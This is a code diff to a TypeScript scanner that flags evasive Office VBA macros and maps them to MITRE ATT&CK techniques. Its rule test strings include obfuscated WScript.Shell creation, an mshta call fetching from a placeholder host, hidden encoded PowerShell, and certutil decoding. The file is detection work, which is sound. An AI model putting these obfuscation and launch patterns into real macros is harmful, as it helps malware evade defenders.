@@ -14,7 +14,8 @@ const TELLTALE =
 const PUT_TOGETHER = traces.joined | traces.decoded;
 const KEPT_PLACES = traces.form | traces.property | traces.variable | traces.alternativeText;
 /** Objects whose text a person seldom looks at. */
-const KEPT_CLASSES = /control|documentpropert|variable|shape|comment|customxml|userform|alternativetext/;
+const KEPT_CLASSES =
+  /control|documentpropert|variable|shape|comment|customxml|userform|alternativetext|(?:^|\/)(?:caption|tag|controltiptext)$/;
 
 /** Names of classes as Windows knows them. */
 const CLASS_NAME = /^[a-z0-9_-]{1,60}(?:\.[a-z0-9_-]{1,60}){0,3}$|^[{(]?[0-9a-f-]{36}[})]?$|^[a-z]+:/;
@@ -33,7 +34,19 @@ export const hiding: readonly Technique[] = [
   {
     id: 'computed-object',
     does: 'starts',
-    calls: ['run', 'exec', 'create', 'shellexecute', 'execmethod', 'execmethod_', 'invokeverb', 'showwindow', 'spawninstance_', 'navigate', 'navigate2'],
+    calls: [
+      'run',
+      'exec',
+      'create',
+      'shellexecute',
+      'execmethod',
+      'execmethod_',
+      'invokeverb',
+      'showwindow',
+      'spawninstance_',
+      'navigate',
+      'navigate2',
+    ],
     on: 'anything',
     kind: 'any',
     matters: ({ arguments: values }) => values.slice(0, 1),
@@ -65,11 +78,26 @@ export const hiding: readonly Technique[] = [
   {
     id: 'kept-text',
     does: 'hides',
-    calls: ['shell', 'run', 'exec', 'create', 'shellexecute', 'createobject', 'getobject', 'addcode', 'executestatement', 'winexec', 'createprocess'],
+    calls: [
+      'shell',
+      'run',
+      'exec',
+      'create',
+      'shellexecute',
+      'createobject',
+      'getobject',
+      'addcode',
+      'executestatement',
+      'winexec',
+      'createprocess',
+    ],
     on: 'anything',
     strength: ({}, { arguments: values }) => (values.some(isKept) ? 0.5 : 0),
     attack: ['T1027.009'],
-    fires: ['Shell UserForm1.Label1.Caption, 0\nEnd Sub\nSub UserForm1()', 'Shell ActiveDocument.CustomXMLParts(4).SelectSingleNode("//x").Text, 0'],
+    fires: [
+      'Shell UserForm1.Label1.Caption, 0\nEnd Sub\nSub UserForm1()',
+      'Shell ActiveDocument.CustomXMLParts(4).SelectSingleNode("//x").Text, 0',
+    ],
     silent: ['Shell Range("B1").Value', 'Shell "notreal.exe"'],
   },
 ];
@@ -84,18 +112,32 @@ export const hidingAnywhere: readonly Technique[] = [
     matters: splitWords,
     strength: (word) => (word === '' ? 0 : 1),
     attack: ['T1027.010'],
-    fires: ['Set o = CreateObject("WScr" & "ipt.Sh" & "ell")', 'cmd = "msh" & "ta http://files.invalid/a"\nGo cmd', 'x = CreateObject(StrReverse("llehS.tpircSW"))'],
-    silent: ['p = "C:" & "\\" & "nowhere"\nMsgBox p', 'Shell "cmd /c dir " & p', 'q = "SELECT a " & "FROM b"\nc.Execute q'],
+    fires: [
+      'Set o = CreateObject("WScr" & "ipt.Sh" & "ell")',
+      'cmd = "msh" & "ta http://files.invalid/a"\nGo cmd',
+      'x = CreateObject(StrReverse("llehS.tpircSW"))',
+    ],
+    silent: [
+      'p = "C:" & "\\" & "nowhere"\nMsgBox p',
+      'Shell "cmd /c dir " & p',
+      'q = "SELECT a " & "FROM b"\nc.Execute q',
+    ],
   },
   {
     id: 'system-program',
     does: 'hides',
     calls: [],
     on: 'anything',
-    matters: (call) => (TELLS.has(call.name) || call.kind === 'native' ? [] : call.arguments.filter((value) => value !== undefined && mayName(value)).slice(0, 8)),
+    matters: (call) =>
+      (TELLS.has(call.name) && call.kind !== 'file') || call.kind === 'native'
+        ? []
+        : call.arguments.filter((value) => value !== undefined && mayName(value)).slice(0, 8),
     strength: (text) => (text === '' ? 0 : isAttacking(text) ? 1 : namesSystemProgram(text) ? 0.5 : 0),
     attack: ['T1059.001', 'T1218'],
-    fires: ['Open "C:\\Data\\a.txt" For Output As #1\nPrint #1, "powershell -w hidden -enc QUFBQUFB"', 'Go "certutil -decode a b"'],
+    fires: [
+      'Open "C:\\Data\\a.txt" For Output As #1\nPrint #1, "powershell -w hidden -enc QUFBQUFB"',
+      'Go "certutil -decode a b"',
+    ],
     silent: ['MsgBox "powershell -w hidden -enc QUFBQUFB"', 'Range("A1").Value = "cmd /c"', 'Go "a command"'],
   },
 ];
@@ -112,7 +154,10 @@ function strengthOfNames(call: MacroCall): Strength {
 
 /** The name that an object was made by: how little is known of it. */
 function strengthOfName(made: MacroCall, className: string, does: string): Strength {
-  const name = made.arguments[made.name === 'getobject' && made.arguments[1] !== undefined ? 1 : 0] ?? made.named.get('class') ?? made.named.get('pathname');
+  const name =
+    made.arguments[made.name === 'getobject' && made.arguments[1] !== undefined ? 1 : 0] ??
+    made.named.get('class') ??
+    made.named.get('pathname');
   const isNavigation = does.startsWith('navigate');
   if (className !== '') return made.name === 'createobject' && !isNavigation && !CLASS_NAME.test(className) ? 1 : 0;
   let strongest: Strength = 0;
@@ -134,7 +179,13 @@ function isKept(value: Value | undefined): boolean {
   if (value === undefined) return false;
   if (hasTrace(value, KEPT_PLACES)) return true;
   if (value.kind === 'object') return KEPT_CLASSES.test(value.className) && value.className !== 'shapes';
-  return value.kind === 'unknown' && value.pieces.some((piece) => typeof piece === 'object' && piece.object !== undefined && KEPT_CLASSES.test(wayTo(piece.object.className)));
+  return (
+    value.kind === 'unknown' &&
+    value.pieces.some(
+      (piece) =>
+        typeof piece === 'object' && piece.object !== undefined && KEPT_CLASSES.test(wayTo(piece.object.className)),
+    )
+  );
 }
 
 function wayTo(className: string): string {
